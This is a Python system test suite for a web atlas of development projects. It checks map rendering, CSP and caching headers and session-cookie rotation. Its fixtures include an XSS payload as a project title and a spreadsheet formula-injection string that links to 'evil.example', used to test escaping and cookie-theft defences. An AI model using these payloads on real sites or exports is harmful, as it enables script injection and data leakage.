"""The public atlas in a browser (issue 6): the whole system started with the
built web app (ATLAS_WEB_ROOT) and the reference geography, a small published
portfolio plus a project whose title is hostile HTML, then
web/tests/atlas.test.mjs drives Debian's Chromium through playwright-core
(map and clusters, the size budget, a theme filter and the URL, the project
sheet, Arabic right-to-left, hostile text, region page and choropleth, mobile,
keyboard labels). Screenshots go to build/<preset>/test-artifacts/web/.
Also checks how the gateway serves the app: compression, caching, headers."""
import base64
import hashlib
import json
import os
import re
import subprocess
import urllib.parse
import urllib.request

from accounts import PASSWORD, create_accounts
from harness import SystemTestCase, System
from test_geo import PROJECTS

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
HOSTILE = 'Projet piégé <img src=x onerror="window.__xss=1"><script>window.__xss=2</script>'
HOSTILE_PARTNER = '=HYPERLINK("https://evil.example/?"&A1,"Bailleur (test)")'


class WebTest(SystemTestCase):
    @classmethod
    def setUpClass(cls):
        ref, web = os.environ.get("ATLAS_TEST_GEO_REFERENCE_FILE"), os.environ.get("ATLAS_TEST_WEB_ROOT")
        if not ref or not web:
            raise RuntimeError("run through scripts/test (ATLAS_TEST_GEO_REFERENCE_FILE, ATLAS_TEST_WEB_ROOT)")
        cls.sys = System().start(extra_env={
            "geo": {"ATLAS_GEO_REFERENCE_FILE": ref},
            "gateway": {"ATLAS_WEB_ROOT": web, "ATLAS_RATE_LIMIT_TOKEN_RPS": "0",
                        "ATLAS_RATE_LIMIT_IP_RPS": "0",
                        # The cookie replayed at once must count as stolen here.
                        "ATLAS_REFRESH_REUSE_GRACE_S": "0"}})
        cls.addClassCleanup(cls.sys.stop)
        cls.tokens, _ = create_accounts(cls.sys)
        # A second editor of the first editor's organisation (two editors at once).
        r = cls.sys.post("/v1/users", {"user": {"username": "editor-2", "roles": ["editor"],
                                                "organisation": "organisations/assoc-oujda"},
                                       "password": PASSWORD})
        assert r.status == 200, r.body
        cls.ids = {}
        rows = [(title, themes, regions, provinces, point, currency, budget, diaspora)
                for title, themes, regions, provinces, point, currency, budget, diaspora in PROJECTS]
        rows.append((HOSTILE, ["skills"], ["MA-06"], [], (33.57, -7.59), "EUR", 1000, []))
        for title, themes, regions, provinces, point, currency, budget, diaspora in rows:
            body = {"title": {"fr": title}, "themes": themes, "regionCodes": regions,
                    "provinceCodes": provinces, "status": "IMPLEMENTATION", "currency": currency,
                    "budget": [{"year": 2025, "amount": budget}], "diasporaCountries": diaspora,
                    "demo": True, "plannedStart": {"year": 2024, "month": 1, "day": 1},
                    "plannedEnd": {"year": 2026, "month": 12, "day": 31},
                    "summary": {"fr": "Projet fictif de démonstration pour les tests."}}
            if point:
                body["location"] = {"latitude": point[0], "longitude": point[1]}
            if title == HOSTILE:  # a partner's name written like a spreadsheet formula
                body["participatingOrganisations"] = [{"name": HOSTILE_PARTNER, "role": "FUNDING"}]
            name = cls.call("POST", "/v1/projects", body, "editor")["name"]
            cls.call("POST", f"/v1/{name}:submit", {}, "editor")
            cls.call("POST", f"/v1/{name}:publish", {}, "validator")
            cls.ids[title] = name.split("/", 1)[1]
        # A good practice for the workspace's consultation (which needs two).
        cls.call("POST", f"/v1/projects/{cls.ids[PROJECTS[1][0]]}:setGoodPractice",
                 {"goodPractice": True}, "validator")
        cls.sys.wait(lambda: json.loads(urllib.request.urlopen(
            cls.sys.url + "/v1/map/projects?bbox=-180,-85,180,85&zoom=3").read())["total"] == len(rows),
            20, "every project on the map")
        cls.published = len(rows)

    @classmethod
    def call(cls, method, path, body, role):
        r = cls.sys.request(method, path, body, headers={"Authorization": "Bearer " + cls.tokens[role]},
                            as_admin=False)
        assert r.status == 200, (path, r.body)
        return r.json()

    def test_gateway_serves_the_app(self):
        s = self.sys
        r = s.request("GET", "/", headers={"Accept-Encoding": "br, gzip"}, as_admin=False)
        self.assertEqual(r.status, 200)
        self.assertEqual(r.headers.get("Content-Encoding"), "br")
        self.assertEqual(r.headers.get("Cache-Control"), "no-cache")
        csp = r.headers["Content-Security-Policy"]
        # Scripts: the app's files and, by hash, exactly the page's inline script.
        inline = re.findall(r"<script>(.*?)</script>", s.request("GET", "/", as_admin=False).body, re.S)
        self.assertEqual(len(inline), 1)
        digest = base64.b64encode(hashlib.sha256(inline[0].encode()).digest()).decode()
        self.assertIn(f"script-src 'self' 'wasm-unsafe-eval' 'sha256-{digest}';", csp)
        self.assertIn("frame-ancestors 'self'", csp)
        etag = r.headers["ETag"]
        self.assertEqual(s.request("GET", "/", headers={"If-None-Match": etag}, as_admin=False).status, 304)
        # App routes are the app; API paths stay the API's.
        page = s.request("GET", f"/projects/{self.ids[PROJECTS[0][0]]}", as_admin=False)
        self.assertEqual(page.status, 200)
        self.assertIn("<!doctype html>", page.body.lower())
        self.assertIn("frame-ancestors *", s.request("GET", "/embed/projects/x", as_admin=False)
                      .headers["Content-Security-Policy"])
        self.assertEqual(s.request("GET", "/v1/nothing-here", as_admin=False).status, 404)
        self.assertEqual(s.request("GET", "/assets/missing.js", as_admin=False).status, 404)
        # Dynamic answers are gzipped for clients that accept it; the gzip form
        # has its own validator, which revalidates too.
        r = s.request("GET", "/v1/vocabularies", headers={"Accept-Encoding": "gzip"}, as_admin=False)
        self.assertEqual(r.headers.get("Content-Encoding"), "gzip")
        self.assertIn("Accept-Encoding", r.headers.get("Vary", ""))
        self.assertEqual(__import__("gzip").decompress(r.raw)[:1], b"{")
        r = s.request("GET", "/v1/tiles/boundaries/4/7/6.mvt", headers={"Accept-Encoding": "gzip"},
                      as_admin=False)
        self.assertTrue(r.headers["ETag"].endswith('-gz"'), r.headers["ETag"])
        self.assertEqual(s.request("GET", "/v1/tiles/boundaries/4/7/6.mvt", as_admin=False,
                                   headers={"Accept-Encoding": "gzip",
                                            "If-None-Match": r.headers["ETag"]}).status, 304)
        # Hashed assets are immutable and precompressed.
        asset = next(a for a in os.listdir(os.path.join(os.environ["ATLAS_TEST_WEB_ROOT"], "assets"))
                     if a.startswith("index-") and a.endswith(".js"))
        r = s.request("GET", "/assets/" + asset, headers={"Accept-Encoding": "gzip"}, as_admin=False)
        self.assertEqual(r.headers.get("Content-Encoding"), "gzip")
        self.assertIn("immutable", r.headers["Cache-Control"])

    def atlas_in_a_browser(self, part):
        artifacts = os.path.join(self.sys.build, "test-artifacts", "web")
        fixtures = os.path.join(self.sys.dir, f"fixtures-{part}.json")
        first = PROJECTS[0]
        with open(fixtures, "w") as f:
            json.dump({"published": self.published, "theme": "skills",
                       "themeCount": sum("skills" in p[1] for p in PROJECTS) + 1,
                       "projectId": self.ids[first[0]], "projectTitle": first[0],
                       "hostileId": self.ids[HOSTILE], "hostileTitle": HOSTILE,
                       "hostilePartner": HOSTILE_PARTNER,
                       "hostileWord": "piégé", "editorToken": self.tokens["editor"],
                       "validatorToken": self.tokens["validator"], "part": part}, f)
        out = subprocess.run(["node", os.path.join(ROOT, "web", "tests", "atlas.test.mjs"), self.sys.url,
                              artifacts, fixtures], capture_output=True, text=True, timeout=240)
        print(out.stdout, out.stderr)
        self.assertEqual(out.returncode, 0, out.stdout + out.stderr)

    # Two parts, two ctest entries (system.web_atlas, system.web_atlas_a11y).
    def test_in_a_browser(self):
        self.atlas_in_a_browser("main")

    def test_atlas_a11y_in_a_browser(self):
        self.atlas_in_a_browser("a11y")

    @classmethod
    def figures_setup(cls):
        """What the figure checks need, once per system: two more projects."""
        if getattr(cls, "figures_ready", False):
            return
        cls.figures_ready = True
        self = cls
        # A project that reports no budget (its region has no budget figure, not a zero
        # one), and one with a budget for a diaspora country with no registration figure
        # of 2004 (no budget per inhabitant there, not a zero one).
        for extra in ({"title": {"fr": "Projet sans budget déclaré (démo)"}, "regionCodes": ["MA-12"],
                       "location": {"latitude": 23.7, "longitude": -15.9}},
                      {"title": {"fr": "Projet pour la diaspora au Sénégal (démo)"}, "regionCodes": ["MA-11"],
                       "diasporaCountries": ["SEN"], "currency": "EUR",
                       "budget": [{"year": 2025, "amount": 50000}]}):
            name = self.call("POST", "/v1/projects", {**extra, "themes": ["skills"], "status": "PIPELINE",
                                                      "demo": True}, "editor")["name"]
            self.call("POST", f"/v1/{name}:submit", {}, "editor")
            self.call("POST", f"/v1/{name}:publish", {}, "validator")
        # The analysis counts demo projects: every project of this system is one.
        analysis = self.call("GET", "/v1/projects:analyze", None, "analyst")
        assert analysis["demoProjects"] == self.published + 2, analysis["demoProjects"]
        assert analysis["indicativeRates"]["asOf"] == "2026-11-29", analysis
        self.sys.wait(lambda: json.loads(urllib.request.urlopen(
            self.sys.url + "/v1/map/areas?level=region&metric=budget").read())["totals"]["projects"]
            == self.published + 2, 20, "the new projects on the map")
        areas = json.loads(urllib.request.urlopen(
            self.sys.url + "/v1/map/areas?level=country&metric=budget_per_capita").read())
        assert areas["denominator"]["year"] == 2004, areas["denominator"]
        sen = next(f["properties"] for f in areas["features"] if f["id"] == "SEN")
        assert (sen["noData"], sen["value"], sen["count"]) == ("no_population", None, 1), sen
        # Two "2.6 million": each dataset says which it is not, in every language.
        for dataset, other in (("consular-2004", "DIOC 2010/11"), ("dioc-demo", "2 616 871")):
            texts = self.sys.request("GET", f"/v1/datasets/{dataset}", as_admin=False).json()["descriptions"]
            for lang in ("fr", "ar", "en"):
                assert (other if lang != "en" else other.replace("2 616 871", "2,616,871")) in texts[lang], \
                    (dataset, lang)
    def figures_in_a_browser(self, part):
        """Issue 23: figures that say what they are (web/tests/figures.test.mjs)."""
        self.figures_setup()
        artifacts = os.path.join(self.sys.build, "test-artifacts", "web")
        fixtures = os.path.join(self.sys.dir, f"figures-{part}-fixtures.json")
        mad = next(title for title, *_, currency, _b, _d in PROJECTS if currency == "MAD")
        with open(fixtures, "w") as f:
            json.dump({"noBudgetRegion": "MA-12", "emptyRegion": "MA-10", "pricedRegion": "MA-02",
                       "noPopulationCountry": "SEN", "madProject": self.ids[mad],
                       "demoPublished": self.published + 2, "analyst": "analyst",
                       "validator": "validator", "editor": "editor", "adminPassword": self.sys.admin_password,
                       "practiceProject": self.ids[PROJECTS[1][0]],
                       "archiveProjects": [self.ids[PROJECTS[5][0]], self.ids[PROJECTS[6][0]]],
                       "regionThemes": len({t for p in PROJECTS if "MA-02" in p[2] for t in p[1]}),
                       "regionCountries": sorted({c for p in PROJECTS if "MA-02" in p[2] for c in p[7]}),
                       "allThemes": len([t for t in self.sys.request("GET", "/v1/vocabularies", as_admin=False)
                                         .json()["vocabularies"] if t["name"] == "themes"][0]["terms"]),
                       "password": PASSWORD, "part": part}, f)
        out = subprocess.run(["node", os.path.join(ROOT, "web", "tests", "figures.test.mjs"), self.sys.url,
                              artifacts, fixtures], capture_output=True, text=True, timeout=240)
        print(out.stdout, out.stderr)
        self.assertEqual(out.returncode, 0, out.stdout + out.stderr)

    # Two parts, two ctest entries (system.web_figures, system.web_figures_workspace).
    def test_figures_in_a_browser(self):
        self.figures_in_a_browser("atlas")

    def test_figures_workspace_in_a_browser(self):
        self.figures_in_a_browser("workspace")

    def workspace_in_a_browser(self, part):
        artifacts = os.path.join(self.sys.build, "test-artifacts", "web")
        fixtures = os.path.join(self.sys.dir, f"workspace-{part}-fixtures.json")
        with open(fixtures, "w") as f:
            json.dump({"password": PASSWORD, "editor": "editor", "editor2": "editor-2",
                       "otherEditor": "other-editor", "validator": "validator", "analyst": "analyst",
                       "admin": "admin", "adminPassword": self.sys.admin_password, "part": part,
                       "projectId": self.ids[PROJECTS[0][0]]}, f)
        out = subprocess.run(["node", os.path.join(ROOT, "web", "tests", "workspace.test.mjs"),
                              self.sys.url, artifacts, fixtures], capture_output=True, text=True,
                             timeout=240)
        print(out.stdout, out.stderr)
        self.assertEqual(out.returncode, 0, out.stdout + out.stderr)

    # Four parts, four ctest entries (system.web_workspace, …_review, …_admin, …_a11y).
    def test_workspace_flow_in_a_browser(self):
        self.workspace_in_a_browser("flow")

    def test_workspace_review_in_a_browser(self):
        self.workspace_in_a_browser("review")

    def test_workspace_admin_in_a_browser(self):
        self.workspace_in_a_browser("admin")

    def test_workspace_a11y_in_a_browser(self):
        self.workspace_in_a_browser("a11y")

    def test_help_in_a_browser(self):
        """Issue 24: the user guides and glossary (web/tests/help.test.mjs)."""
        artifacts = os.path.join(self.sys.build, "test-artifacts", "web")
        fixtures = os.path.join(self.sys.dir, "help-fixtures.json")
        with open(fixtures, "w") as f:
            json.dump({"password": PASSWORD, "adminPassword": self.sys.admin_password}, f)
        out = subprocess.run(["node", os.path.join(ROOT, "web", "tests", "help.test.mjs"), self.sys.url,
                              artifacts, fixtures], capture_output=True, text=True, timeout=240)
        print(out.stdout, out.stderr)
        self.assertEqual(out.returncode, 0, out.stdout + out.stderr)

    def test_session_cookie(self):
        s = self.sys
        form = {"Content-Type": "application/x-www-form-urlencoded", "Accept-Language": "ar"}
        bad = s.request("POST", "/v1/auth/session", raw=b"username=editor&password=wrong", headers=form,
                        as_admin=False)
        self.assertEqual(bad.status, 400)
        self.assertNotIn("Set-Cookie", bad.headers)
        r = s.request("POST", "/v1/auth/session", headers=form, as_admin=False,
                      raw=urllib.parse.urlencode({"username": "editor", "password": PASSWORD}).encode())
        self.assertEqual(r.status, 200, r.body)
        self.assertNotIn("refresh_token", r.json())
        self.assertEqual(r.headers.get("Cache-Control"), "no-store")
        cookie = r.headers["Set-Cookie"]
        for attr in ("HttpOnly", "Secure", "SameSite=Strict", "Path=/v1/auth"):
            self.assertIn(attr, cookie)
        value = cookie.split(";", 1)[0]
        # Another site's page cannot refresh the session (Arabic message).
        evil = s.request("POST", "/v1/auth/session:refresh", headers={
            "Cookie": value, "Origin": "https://evil.example", "Accept-Language": "ar"}, as_admin=False)
        self.assertEqual(evil.status, 403)
        self.assertIn("الجلسات", evil.json()["message"])
        r2 = s.request("POST", "/v1/auth/session:refresh", headers={"Cookie": value}, as_admin=False)
        self.assertEqual(r2.status, 200, r2.body)
        rotated = r2.headers["Set-Cookie"].split(";", 1)[0]
        self.assertNotEqual(rotated, value)
        # The used cookie again (stolen?): refused, the whole session revoked.
        self.assertEqual(s.request("POST", "/v1/auth/session:refresh", headers={"Cookie": value},
                                   as_admin=False).status, 401)
        self.assertEqual(s.request("POST", "/v1/auth/session:refresh", headers={"Cookie": rotated},
                                   as_admin=False).status, 401)
        self.assertEqual(s.request("POST", "/v1/auth/session:refresh", as_admin=False).status, 401)
        out = s.request("POST", "/v1/auth/session:logout", headers={"Cookie": rotated}, as_admin=False)
        self.assertEqual(out.status, 200)
        self.assertIn("Max-Age=0", out.headers["Set-Cookie"])


if __name__ == "__main__":
    __import__("unittest").main()
